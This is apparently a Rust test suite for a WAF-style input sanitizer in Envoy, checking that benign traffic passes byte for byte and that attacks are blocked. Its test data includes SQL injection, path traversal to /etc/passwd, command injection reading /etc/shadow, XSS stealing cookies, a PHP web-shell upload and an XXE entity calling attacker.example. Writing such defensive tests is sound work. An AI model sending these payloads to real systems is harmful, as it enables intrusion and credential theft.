//! The input sanitizer in the real Envoy, in front of the real demo upstream: what it blocks and
//! how it says so, what it lets through (byte for byte), shadow mode, per-route exceptions, schema
//! validation, body limits, and the labelled corpus with its detection and false-positive rates.

use std::collections::BTreeMap;
use std::io::Read;

use portcullis_tests::{envoy_refuses, repo, Chain, Options};
use serde_json::Value;

/// Status, headers we care about, and body of a response, whatever its status.
struct Reply {
    status: u16,
    content_type: String,
    body: Vec<u8>,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

fn reply(result: Result<ureq::Response, ureq::Error>) -> Reply {
    let resp = match result {
        Ok(r) => r,
        Err(ureq::Error::Status(_, r)) => r,
        Err(e) => panic!("transport error: {e}"),
    };
    let status = resp.status();
    let content_type = resp.header("content-type").unwrap_or_default().to_string();
    let mut body = Vec::new();
    resp.into_reader().read_to_end(&mut body).unwrap();
    Reply {
        status,
        content_type,
        body,
    }
}

fn get(chain: &Chain, path: &str) -> Reply {
    reply(chain.client().get(&chain.url(path)).call())
}

fn post(chain: &Chain, path: &str, content_type: &str, body: &[u8]) -> Reply {
    reply(
        chain
            .client()
            .post(&chain.url(path))
            .set("content-type", content_type)
            .send_bytes(body),
    )
}

/// Options for tests that send many attacks from one address: the demo rate limits and their
/// penalty bans would (rightly) stop such a client before the sanitizer sees it; these tests are
/// about the sanitizer. `{"mode": "enforce"}` with no limits is valid for the rate-limit filter.
fn without_rate_limits(options: Options) -> Options {
    options
        .filter_config("ratelimit-client", r#"{"mode": "enforce"}"#)
        .filter_config("ratelimit-identity", r#"{"mode": "enforce"}"#)
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// A block: 403 problem+json with the request id, the category and rule — and not the payload.
fn assert_blocked(r: &Reply, category: &str, payload_marker: &str) {
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.content_type, "application/problem+json");
    let p = r.json();
    assert_eq!(p["reason"], format!("{category}_detected"), "{p}");
    assert_eq!(p["status"], 403);
    assert!(
        p["request_id"].as_str().is_some_and(|id| id.len() >= 16),
        "{p}"
    );
    let detail = p["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains(&format!("request blocked: {category} (rule {category}-"))
            || detail.contains(&format!("request blocked: {category} (rule ")),
        "{detail}"
    );
    assert!(
        !r.text().contains(payload_marker),
        "payload echoed: {}",
        r.text()
    );
}

#[test]
fn benign_requests_reach_the_upstream_byte_for_byte() {
    let chain = Chain::start();
    let bodies: [(&str, &[u8]); 5] = [
        (
            "application/json",
            "{\"name\":\"Siobhán O'Brien\",\"note\":\"It's 20% off — $19.99; see https://x.example/a?b=c&d=e\",\"tags\":[\"東京\",\"München\"],\"md\":\"# Hi\\n\\n```js\\nif (a && b) { go(); }\\n```\"}".as_bytes(),
        ),
        (
            "application/x-www-form-urlencoded",
            b"name=Zo%C3%AB+D%27Angelo&msg=Tom+%26+Jerry%3B+the+%27classic%27+one",
        ),
        (
            "text/markdown; charset=utf-8",
            b"## Steps\n1. Open *Settings*\n2. Use `a < b` and ../faq.md\n",
        ),
        (
            "multipart/form-data; boundary=PortcullisB",
            b"--PortcullisB\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy cat's photo\r\n--PortcullisB\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\x00\r\n--PortcullisB--\r\n",
        ),
        ("application/json", b"{}"),
    ];
    for (ct, body) in bodies {
        let r = post(&chain, "/echo", ct, body);
        assert_eq!(r.status, 200, "{ct}: {}", r.text());
        let seen = chain.upstream.received().pop().unwrap();
        assert_eq!(seen.body, body, "{ct}: body changed on the way");
        assert_eq!(seen.header("x-portcullis-would-deny"), None);
    }
    let r = get(&chain, "/api/products?q=O%27Brien&sort=price&max=%2419.99");
    assert_eq!(r.status, 200);
    let r = post(
        &chain,
        "/login",
        "application/json",
        br#"{"username":"ada"}"#,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let allowed = chain
        .stat("wasmcustom.portcullis_sanitizer_allowed")
        .unwrap_or(0);
    assert!(allowed >= 7, "allowed counter: {allowed}");
    assert_eq!(
        chain
            .stat("wasmcustom.portcullis_sanitizer_blocked")
            .unwrap_or(0),
        0
    );
}

#[test]
fn attacks_of_every_kind_are_blocked_before_the_upstream() {
    let chain = Chain::start_with(without_rate_limits(Options::default()));
    let client = chain.client();
    let before = chain.upstream.received().len();

    let r = get(
        &chain,
        &format!("/api/products?id={}", encode("1' OR '1'='1")),
    );
    assert_blocked(&r, "sqli", "'1'='1");
    // `+` as space and double encoding.
    let r = get(
        &chain,
        "/echo/search?q=1+UNION+SELECT+password+FROM+users--",
    );
    assert_blocked(&r, "sqli", "UNION");
    let r = get(
        &chain,
        "/echo/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    );
    assert_blocked(&r, "traversal", "passwd");
    let r = get(&chain, "/echo/files?name=..%c0%af..%c0%afetc");
    assert_eq!(r.status, 403, "{}", r.text());
    let r = post(
        &chain,
        "/echo",
        "application/json",
        br#"{"comment":"<img src=x onerror=alert(document.cookie)>"}"#,
    );
    assert_blocked(&r, "xss", "onerror");
    let r = post(
        &chain,
        "/login",
        "application/json",
        br#"{"username":"admin","password":{"$ne":null}}"#,
    );
    assert_blocked(&r, "nosql", "$ne");
    let r = post(
        &chain,
        "/echo",
        "application/x-www-form-urlencoded",
        b"host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd",
    );
    assert_blocked(&r, "cmdi", "passwd");
    let r = post(&chain, "/echo", "text/plain", b"Hello {{7*7}}");
    assert_blocked(&r, "ssti", "7*7");
    let r = reply(
        client
            .get(&chain.url("/echo"))
            .set("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
            .call(),
    );
    assert_blocked(&r, "scanner", "sqlmap");
    let r = reply(
        client
            .get(&chain.url("/echo"))
            .set(
                "cookie",
                "theme=dark; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            )
            .call(),
    );
    assert_blocked(&r, "xss", "alert(1)");
    let upload = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n";
    let r = post(
        &chain,
        "/echo/upload",
        "multipart/form-data; boundary=B",
        upload,
    );
    assert_blocked(&r, "upload", "system(");
    assert!(r.json()["detail"]
        .as_str()
        .unwrap_or_default()
        .contains("upload-extension"));
    let disguised = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n";
    let r = post(
        &chain,
        "/echo/upload",
        "multipart/form-data; boundary=B",
        disguised,
    );
    assert!(r.text().contains("upload-magic-bytes"), "{}", r.text());

    assert_eq!(
        chain.upstream.received().len(),
        before,
        "a blocked request reached the upstream"
    );
    assert_eq!(
        chain.stat("wasmcustom.portcullis_sanitizer_blocked"),
        Some(12)
    );
    assert!(chain
        .stat("wasmcustom.portcullis_sanitizer_blocked_sqli_detected")
        .is_some_and(|n| n == 2));
    // One log line per block, naming the rule and field, never the payload.
    let log = chain.log();
    assert!(
        log.contains("sanitizer: blocked 403 reason=sqli_detected")
            && log.contains("field=query.id"),
        "{log}"
    );
    assert!(!log.contains("'1'='1"), "payload logged");
}

#[test]
fn malformed_bodies_limits_and_content_type_policy() {
    // `json` is a global setting, not a route field: refused, naming the field.
    let bad = r#"{"routes": [{"match": {"path": "/nested/**"}, "json": {"max_depth": 2}}]}"#;
    let (status, log) = envoy_refuses(Options::default().filter_config("sanitizer", bad));
    assert!(!status.success());
    assert!(
        log.contains("sanitizer: routes[0].json: unknown field `json`"),
        "{log}"
    );
    let config = r#"{
        "routes": [
            {"match": {"path": "/echo/small/**"}, "body_limit": 1024},
            {"match": {"path": "/echo/strict/**"}, "unknown_content_type": "refuse",
             "allowed_methods": ["GET", "POST"]}
        ]
    }"#;
    let chain = Chain::start_with(Options::default().filter_config("sanitizer", config));

    let r = post(&chain, "/echo", "application/json", b"{\"a\": [1, 2");
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (400, "malformed_json".into())
    );
    assert_eq!(r.content_type, "application/problem+json");
    let deep = format!("{}{}", "[".repeat(40), "]".repeat(40));
    let r = post(&chain, "/echo", "application/json", deep.as_bytes());
    assert_eq!(r.json()["reason"], "json_too_deep");
    let twice = br#"{"q":"<script>alert(1)</script>","q":"books"}"#;
    let r = post(&chain, "/echo", "application/json", twice);
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (400, "json_duplicate_key".into())
    );
    let r = post(
        &chain,
        "/echo",
        "multipart/form-data; boundary=B",
        b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\ntruncated",
    );
    assert_eq!(r.json()["reason"], "malformed_multipart");

    // Just under and just over the route's 1 KiB cap.
    let under = format!("{{\"a\":\"{}\"}}", "x".repeat(1024 - 8));
    assert_eq!(under.len(), 1024);
    let r = post(
        &chain,
        "/echo/small/x",
        "application/json",
        under.as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        chain.upstream.received().pop().unwrap().body,
        under.as_bytes()
    );
    let over = format!("{{\"a\":\"{}\"}}", "x".repeat(1024 - 7));
    let r = post(&chain, "/echo/small/x", "application/json", over.as_bytes());
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (413, "body_too_large".into())
    );
    // Chunked (no content-length): caught while buffering.
    let r = reply(
        chain
            .client()
            .post(&chain.url("/echo/small/x"))
            .set("content-type", "application/json")
            .send(std::io::Cursor::new(over.clone().into_bytes())),
    );
    assert_eq!(r.status, 413, "{}", r.text());

    let r = post(&chain, "/echo/strict/x", "application/x-thing", b"<a/>");
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (415, "unsupported_media_type".into())
    );
    let r = reply(chain.client().delete(&chain.url("/echo/strict/x")).call());
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (405, "method_not_allowed".into())
    );
    // Elsewhere, XML is tokenized and its text inspected.
    let r = post(
        &chain,
        "/echo",
        "application/xml",
        b"<a>../../../etc/passwd</a>",
    );
    assert_eq!(r.status, 403);
    let r = post(&chain, "/echo", "application/xml", b"<a>fine</a>");
    assert_eq!(r.status, 200);
}

#[test]
fn shadow_mode_flags_and_forwards_unchanged() {
    let chain =
        Chain::start_with(Options::default().filter_config("sanitizer", r#"{"mode": "shadow"}"#));
    let body = br#"{"q":"' OR 1=1--"}"#;
    let r = post(&chain, "/echo", "application/json", body);
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = chain.upstream.received().pop().unwrap();
    assert_eq!(seen.body, body);
    assert_eq!(
        seen.header("x-portcullis-would-deny"),
        Some("sanitizer:sqli_detected")
    );
    let r = get(&chain, "/echo?x=%3Cscript%3E");
    assert_eq!(r.status, 200);
    let seen = chain.upstream.received().pop().unwrap();
    assert_eq!(
        seen.header("x-portcullis-would-deny"),
        Some("sanitizer:xss_detected")
    );
    // A client cannot forge the signal, and benign traffic carries none.
    let r = reply(
        chain
            .client()
            .get(&chain.url("/echo"))
            .set("x-portcullis-would-deny", "sanitizer:forged")
            .call(),
    );
    assert_eq!(r.status, 200);
    assert_eq!(
        chain
            .upstream
            .received()
            .pop()
            .unwrap()
            .header("x-portcullis-would-deny"),
        None
    );
    assert_eq!(
        chain.stat("wasmcustom.portcullis_sanitizer_would_block"),
        Some(2)
    );
    assert_eq!(
        chain
            .stat("wasmcustom.portcullis_sanitizer_blocked")
            .unwrap_or(0),
        0
    );
    assert!(chain
        .log()
        .contains("sanitizer: would block 403 reason=sqli_detected"));
}

#[test]
fn route_exceptions_and_schema_validation() {
    let config = r#"{
        "routes": [
            {"match": {"path": "/echo/cms/**"},
             "exclude": [{"field": "body.html", "categories": ["xss"]}]},
            {"match": {"path": "/echo/internal/**"}, "inspect": false},
            {"match": {"path": "/echo/orders", "methods": ["POST"]},
             "schema": {"type": "object", "required": ["sku", "qty"], "properties": {
                 "sku": {"type": "string", "pattern": "^[A-Z]{3}-[0-9]{4}$"},
                 "qty": {"type": "integer", "minimum": 1, "maximum": 100},
                 "gift": {"type": "boolean"},
                 "lines": {"type": "array", "maxItems": 3,
                           "items": {"type": "object", "properties": {
                               "color": {"enum": ["red", "blue"]}}}}}}}
        ]
    }"#;
    let chain = Chain::start_with(Options::default().filter_config("sanitizer", config));
    let page = br#"{"title":"Welcome","html":"<p onclick=\"track()\">Hi</p><iframe src=\"/embed\"></iframe>"}"#;
    let r = post(&chain, "/echo/cms/pages/1", "application/json", page);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(chain.upstream.received().pop().unwrap().body, page);
    // The same HTML elsewhere, or in another field, or SQL injection in the excluded field: blocked.
    assert_eq!(post(&chain, "/echo", "application/json", page).status, 403);
    let other = br#"{"title":"<iframe src=x>","html":"ok"}"#;
    assert_eq!(
        post(&chain, "/echo/cms/pages/1", "application/json", other).status,
        403
    );
    let sql = br#"{"html":"x' OR 1=1--"}"#;
    assert_eq!(
        post(&chain, "/echo/cms/pages/1", "application/json", sql).status,
        403
    );
    assert_eq!(get(&chain, "/echo/internal/x?q=%3Cscript%3E").status, 200);

    let ok = br#"{"sku":"ABC-1234","qty":2,"lines":[{"color":"red"}]}"#;
    assert_eq!(
        post(&chain, "/echo/orders", "application/json", ok).status,
        200
    );
    for (body, detail) in [
        (
            &br#"{"sku":"ABC-1234","qty":500}"#[..],
            "$.qty: must be ≤ 100",
        ),
        (
            br#"{"sku":"abc","qty":1}"#,
            "$.sku: does not match the required pattern",
        ),
        (br#"{"qty":1}"#, "$: is missing required property `sku`"),
        (
            br#"{"sku":"ABC-1234","qty":1,"lines":[{"color":"red"},{"color":"green"}]}"#,
            "$.lines[1].color: must be one of the allowed values",
        ),
        (
            br#"{"sku":"ABC-1234","qty":"2"}"#,
            "$.qty: must be of type integer",
        ),
    ] {
        let r = post(&chain, "/echo/orders", "application/json", body);
        assert_eq!(r.status, 400, "{}", r.text());
        let p = r.json();
        assert_eq!(
            (p["reason"].as_str(), p["detail"].as_str()),
            (Some("schema_violation"), Some(detail))
        );
        assert!(p["request_id"].is_string());
    }
    assert_eq!(
        post(&chain, "/echo/orders", "text/plain", b"sku=ABC-1234").status,
        415
    );
}

#[test]
fn bad_configurations_are_refused_naming_the_field() {
    for (config, line) in [
        (
            r#"{"paranoia": 9}"#,
            "sanitizer: paranoia: must be 1, 2, 3 or 4",
        ),
        (
            r#"{"routes": [{"match": {"path": "/a"}, "schema": {"type": "object", "properties": {"n": {"pattern": "(("}}}}]}"#,
            "sanitizer: routes[0].schema.properties.n.pattern: invalid pattern",
        ),
    ] {
        let (status, log) = envoy_refuses(Options::default().filter_config("sanitizer", config));
        assert!(!status.success());
        assert!(log.contains(line), "{log}");
    }
}

/// The labelled corpus (`filters/sanitizer/corpus/`) through the real chain with the demo
/// configuration; prints the table and asserts ≥ 95 % detection per category and ≤ 0.5 % false
/// positives.
#[test]
fn corpus_detection_and_false_positive_rates() {
    let chain = Chain::start_with(without_rate_limits(Options::default()));
    let client = chain.client();
    let read = |file: &str| -> Vec<(String, String, String)> {
        let path = repo().join("filters/sanitizer/corpus").join(file);
        std::fs::read_to_string(&path)
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                let s = |k: &str| v[k].as_str().unwrap().to_string();
                (s("label"), s("kind"), s("payload"))
            })
            .collect()
    };
    let blocked = |kind: &str, payload: &str| -> bool {
        let r = match kind {
            "query" => reply(
                client
                    .get(&chain.url(&format!("/echo/search?q={}", encode(payload))))
                    .call(),
            ),
            "query_raw" => reply(
                client
                    .get(&chain.url(&format!("/echo/search?{payload}")))
                    .call(),
            ),
            "json" => reply(
                client
                    .post(&chain.url("/echo"))
                    .set("content-type", "application/json")
                    .send_bytes(payload.as_bytes()),
            ),
            "form" => reply(
                client
                    .post(&chain.url("/echo"))
                    .set("content-type", "application/x-www-form-urlencoded")
                    .send_bytes(format!("comment={}", encode(payload)).as_bytes()),
            ),
            "ua" => reply(
                client
                    .get(&chain.url("/echo"))
                    .set("user-agent", payload)
                    .call(),
            ),
            // The payload is already URL-safe (percent-encoded where it needs to be).
            "path" => reply(
                client
                    .get(&chain.url(&format!("/echo/api/v1/items/{payload}")))
                    .call(),
            ),
            "xml" => reply(
                client
                    .post(&chain.url("/echo"))
                    .set("content-type", "application/xml")
                    .send_bytes(payload.as_bytes()),
            ),
            other => panic!("unknown kind {other}"),
        };
        match r.status {
            403 => {
                let reason = r.json()["reason"].as_str().unwrap_or_default().to_string();
                assert!(
                    reason.ends_with("_detected"),
                    "403 not from the sanitizer: {}",
                    r.text()
                );
                true
            }
            200 => false,
            // A path Envoy itself refuses (its path normalisation answers 400 before any
            // filter runs) does not get through either; counted as blocked, and said so.
            400 if kind == "path" => {
                eprintln!("refused by Envoy before the sanitizer: {payload:?}");
                true
            }
            other => panic!("{kind} {payload:?}: unexpected {other}: {}", r.text()),
        }
    };
    let mut per: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    for (label, kind, payload) in read("attacks.jsonl") {
        let e = per.entry(label).or_default();
        e.0 += 1;
        if blocked(&kind, &payload) {
            e.1 += 1;
        } else {
            eprintln!("missed: {kind} {payload:?}");
        }
    }
    let benign = read("benign.jsonl");
    let mut false_positives = 0;
    for (_, kind, payload) in &benign {
        if blocked(kind, payload) {
            false_positives += 1;
            eprintln!("false positive: {kind} {payload:?}");
        }
    }
    println!("\n| category | attacks | blocked | detection |");
    println!("|---|---:|---:|---:|");
    for (label, (n, hit)) in &per {
        println!(
            "| {label} | {n} | {hit} | {:.1} % |",
            100.0 * *hit as f64 / *n as f64
        );
    }
    let fp = 100.0 * false_positives as f64 / benign.len() as f64;
    println!(
        "| benign | {} | {false_positives} | false positives {fp:.2} % |\n",
        benign.len()
    );
    let attacks: usize = per.values().map(|v| v.0).sum();
    assert!(attacks >= 500 && benign.len() >= 500);
    for (label, (n, hit)) in &per {
        assert!(*hit as f64 >= 0.95 * *n as f64, "{label}: {hit}/{n}");
    }
    assert!(fp <= 0.5, "false positives: {fp:.2} %");
}

fn post_with(chain: &Chain, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Reply {
    let mut req = chain.client().post(&chain.url(path));
    for (k, v) in headers {
        req = req.set(k, v);
    }
    reply(req.send_bytes(body))
}

/// Whether any request the upstream saw carries `marker` in its body or headers.
fn upstream_saw(chain: &Chain, marker: &str) -> bool {
    chain.upstream.received().iter().any(|r| {
        String::from_utf8_lossy(&r.body).contains(marker)
            || r.headers.iter().any(|(_, v)| v.contains(marker))
    })
}

#[test]
fn custom_headers_are_inspected_and_honest_ones_pass() {
    let chain = Chain::start_with(without_rate_limits(Options::default()));
    let attacks = [
        (
            "x-api-filter",
            "1' UNION SELECT password FROM users--",
            "sqli",
        ),
        (
            "x-return-to",
            "<script>alert(document.cookie)</script>",
            "xss",
        ),
        ("x-file", "../../../../etc/passwd", "traversal"),
        ("x-forwarded-host", "a.example; cat /etc/shadow", "cmdi"),
        ("x-template", "{{7*7}}${7*7}<%= 7*7 %>", "ssti"),
    ];
    for (name, value, category) in attacks {
        let r = reply(
            chain
                .client()
                .get(&chain.url("/echo/h"))
                .set(name, value)
                .call(),
        );
        assert_blocked(&r, category, value);
        assert_eq!(
            r.json()["detail"]
                .as_str()
                .map(|d| d.contains("in the headers")),
            Some(true),
            "{name}"
        );
        assert!(!upstream_saw(&chain, value), "{name} reached the upstream");
    }
    let honest = [
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
        ("cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("if-none-match", "W/\"0815-xyz\""),
        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
        ("x-client-version", "ios/17.2 (build 4711; iPhone14,2)"),
        ("x-idempotency-key", "order-2026-12-07/ada@example.com"),
    ];
    let mut req = chain.client().get(&chain.url("/echo/honest"));
    for (k, v) in honest {
        req = req.set(k, v);
    }
    let r = reply(req.call());
    assert_eq!(r.status, 200, "{}", r.text());
    // The skip list: a credential is the auth filter's, never a sanitizer finding.
    let r = reply(
        chain
            .client()
            .get(&chain.url("/echo/auth"))
            .set("proxy-authorization", "Basic ' or 1=1--")
            .call(),
    );
    assert_ne!(r.status, 403, "{}", r.text());
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn xml_graphql_compressed_and_charset_bodies() {
    let config = r#"{"routes": [{"match": {"path": "/echo/graphql"}, "refuse_graphql_introspection": true}]}"#;
    let chain = Chain::start_with(without_rate_limits(
        Options::default().filter_config("sanitizer", config),
    ));
    // XXE in a SOAP body: refused, never forwarded.
    let xxe = br#"<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "http://attacker.example/x">]><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>&x;</soap:Body></soap:Envelope>"#;
    let r = post(&chain, "/echo/soap", "application/soap+xml", xxe);
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (403, "xml_entity_detected".into())
    );
    assert!(!upstream_saw(&chain, "attacker.example"));
    let soap = br#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetUser xmlns:m="urn:u"><m:id>1 UNION SELECT password FROM users--</m:id></m:GetUser></soap:Body></soap:Envelope>"#;
    assert_blocked(
        &post(&chain, "/echo/soap", "text/xml", soap),
        "sqli",
        "UNION",
    );
    let honest = br#"<?xml version="1.0" encoding="UTF-8"?><order id="42"><note>Tom &amp; Jerry's "best" mug &lt;3</note></order>"#;
    let r = post(&chain, "/echo/soap", "application/xml", honest);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(chain.upstream.received().pop().unwrap().body, honest);

    // GraphQL: string arguments inspected; introspection refused where the route opts in.
    let q = br#"{"query":"{ user(name: \"x\u0027 UNION SELECT password FROM users--\") { id } }"}"#;
    assert_blocked(
        &post(&chain, "/echo/graphql", "application/json", q),
        "sqli",
        "UNION",
    );
    let intro = br#"{"query":"query { __schema { types { name } } }"}"#;
    let r = post(&chain, "/echo/graphql", "application/json", intro);
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (403, "graphql_introspection".into())
    );
    let r = post(&chain, "/echo/other", "application/json", intro);
    assert_eq!(r.status, 200, "{}", r.text());

    // Compressed bodies: inflated to be inspected, forwarded as sent; a bomb is a 413.
    let json = ("content-type", "application/json");
    let attack = gzip(br#"{"q":"1' UNION SELECT password FROM users--"}"#);
    let r = post_with(
        &chain,
        "/echo/gz",
        &[json, ("content-encoding", "gzip")],
        &attack,
    );
    assert_blocked(&r, "sqli", "UNION");
    let fine = gzip(br#"{"q":"red shoes"}"#);
    let r = post_with(
        &chain,
        "/echo/gz",
        &[json, ("content-encoding", "gzip")],
        &fine,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(chain.upstream.received().pop().unwrap().body, fine);
    let bomb = gzip(&vec![b' '; 1 << 20]);
    let r = post_with(
        &chain,
        "/echo/gz",
        &[json, ("content-encoding", "gzip")],
        &bomb,
    );
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (413, "decompression_bomb".into())
    );
    let r = post_with(
        &chain,
        "/echo/gz",
        &[json, ("content-encoding", "br")],
        b"\x0b\x02\x80{}\x03",
    );
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (415, "unsupported_content_encoding".into())
    );

    // Charsets: UTF-16 decoded before inspection; an unknown one refused.
    let utf16: Vec<u8> = "q=1' UNION SELECT password FROM users--"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let form = "application/x-www-form-urlencoded; charset=utf-16le";
    assert_blocked(&post(&chain, "/echo/cs", form, &utf16), "sqli", "UNION");
    let fine: Vec<u8> = "q=red shoes"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(post(&chain, "/echo/cs", form, &fine).status, 200);
    let r = post(&chain, "/echo/cs", "text/plain; charset=shift_jis", b"abc");
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (415, "unsupported_charset".into())
    );
}

#[test]
fn multipart_tricks_are_refused() {
    let chain = Chain::start_with(without_rate_limits(Options::default()));
    let ct = "multipart/form-data; boundary=B";
    let star = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"; filename*=UTF-8''shell.php\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--B--\r\n";
    let r = post(&chain, "/echo/up", ct, star);
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (403, "upload_detected".into())
    );
    let cases: [(&str, &[u8], &str); 3] = [
        (ct, b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--B--\r\n", "multipart_ambiguous"),
        (ct, b"--B\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJyBvciAxPTEtLQ==\r\n--B--\r\n", "multipart_ambiguous"),
        ("multipart/form-data; boundary=B; boundary=C", b"--C\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--C--\r\n", "content_type_ambiguous"),
    ];
    for (ct, body, reason) in cases {
        let r = post(&chain, "/echo/up", ct, body);
        assert_eq!(
            (r.status, r.json()["reason"].clone()),
            (400, reason.into()),
            "{}",
            r.text()
        );
    }
    let ok = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--B--\r\n";
    assert_eq!(post(&chain, "/echo/up", ct, ok).status, 200);
}

/// Istio's `WasmPlugin` cannot set `allow_on_headers_stop_iteration`: the render without it.
fn without_headers_stop_iteration(options: Options) -> Options {
    options.edit_yaml(
        "allow_on_headers_stop_iteration: true",
        "allow_on_headers_stop_iteration: false",
    )
}

#[test]
fn hold_headers_false_inspects_the_body_without_holding_the_headers() {
    let chain = Chain::start_with(without_headers_stop_iteration(
        Options::default().filter_config("sanitizer", r#"{"hold_headers": false}"#),
    ));
    let marker = "UNION SELECT password FROM users";
    let attack = format!(r#"{{"q":"1' {marker}--"}}"#);
    let r = post(&chain, "/echo/istio", "application/json", attack.as_bytes());
    assert_blocked(&r, "sqli", marker);
    // The headers may have gone upstream, the body never did.
    assert!(!upstream_saw(&chain, marker));
    let fine = br#"{"q":"red shoes","n":3}"#;
    let r = post(&chain, "/echo/istio", "application/json", fine);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(chain.upstream.received().pop().unwrap().body, fine);
    // A body over the limit while streaming (no content-length) is still refused.
    let big = format!(r#"{{"a":"{}"}}"#, "x".repeat(2 << 20));
    let r = reply(
        chain
            .client()
            .post(&chain.url("/echo/istio"))
            .set("content-type", "application/json")
            .send(std::io::Cursor::new(big.into_bytes())),
    );
    assert_eq!(r.status, 413, "{}", r.text());
}

#[test]
fn held_headers_whose_body_never_comes_fail_closed() {
    // hold_headers (the default) without the Envoy option: Envoy never hands over the body.
    let chain = Chain::start_with(without_headers_stop_iteration(
        Options::default().filter_config("sanitizer", r#"{"body_wait_ms": 1000}"#),
    ));
    let started = std::time::Instant::now();
    let r = post(
        &chain,
        "/echo/held",
        "application/json",
        br#"{"q":"red shoes"}"#,
    );
    assert_eq!(
        (r.status, r.json()["reason"].clone()),
        (500, "body_never_delivered".into()),
        "{}",
        r.text()
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert!(chain
        .upstream
        .received()
        .iter()
        .all(|r| r.path != "/echo/held"));
    assert!(
        chain
            .log()
            .contains("allow_on_headers_stop_iteration: true"),
        "{}",
        chain.log()
    );
    // A GET without a body is not held and goes through.
    assert_eq!(get(&chain, "/echo/get").status, 200);
}
